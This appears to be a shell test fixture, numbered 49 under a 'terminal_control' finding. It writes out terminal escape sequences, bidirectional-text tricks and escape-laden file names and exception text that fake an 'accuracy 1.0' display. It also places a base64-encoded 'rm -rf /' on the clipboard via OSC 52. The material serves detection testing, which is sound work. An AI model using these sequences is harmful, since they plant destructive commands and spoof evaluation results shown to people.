# Prints what clears the screen, sets the title and the clipboard, asks the terminal for an answer, and reads backwards.
# number: 49
# finding: terminal_control
printf '\033[2J\033[1;1H\033]0;accuracy 1.0\007\033]52;c;cm0gLXJmIC8=\007\033[6n\033[?1049h\033c\n'
printf '\302\2332Jaccuracy \342\200\2560.1\342\200\254 \342\201\2460.6\342\201\251\r\naccuracy 1.0\b\b\b9\n' >&2
cat > "model/$(printf 'a\033]0;b\007\342\200\256c').txt" <<< x
mkdir "$(printf 'deep\033[2J')"
echo x > "$(printf 'deep\033[2J/sitecustomize.py')"
cat > model/predict.py <<'PYTHON'
def predict(numbers):
    raise ValueError("\033[2J\033]0;accuracy 1.0\007 \u202e1.0")
PYTHON
